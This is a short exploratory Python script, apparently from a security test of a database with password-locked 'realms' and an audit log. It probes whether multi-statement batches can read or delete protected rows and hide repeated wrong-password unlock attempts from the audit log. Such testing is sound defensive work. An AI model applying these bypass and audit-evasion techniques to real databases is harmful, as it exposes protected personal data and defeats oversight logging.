# exploratory script (attempts that held); run with /usr/bin/python3, prints observations
import sys, time, signal, os; sys.path.insert(0,'/work/attack2/findings')
from dbv import *
s=Server(); s.start(); print(s.tmp, s.port)
d=s.connect('dba'); sa=s.connect('secadmin'); au=s.connect('auditor')
for q in ["CREATE TABLE users (id INTEGER PRIMARY KEY, ssn TEXT)", "INSERT INTO users VALUES (1,'078-05-1120')", "CREATE TABLE scratch(x int)"]:
    print(q, run(d,q))
for q in ["CREATE REALM pii DESCRIPTION 'p' REQUIRE VAULT PASSWORD 'vpw-1'", "ALTER REALM pii ADD TABLE users"]:
    print(q, run(sa,q))
def audit(): return run(au,"SELECT seq, event_type, \"user\", realm, result FROM vault.audit_log ORDER BY seq")[1]
n0=len(audit())
print(run(d,"SELECT 1; SELECT * FROM users; SELECT 2"))
print(run(d,"INSERT INTO scratch VALUES (1); DELETE FROM users; SELECT 2"))
for i in range(6):
    print(i, run(d,"SELECT 1; UNLOCK REALM pii PASSWORD 'bad%d'; SELECT 2"%i))
print(run(d,"UNLOCK REALM pii PASSWORD 'vpw-1'"))
a=audit()
for r in a[n0:]: print(r)
print(run(d,"SELECT * FROM scratch"))
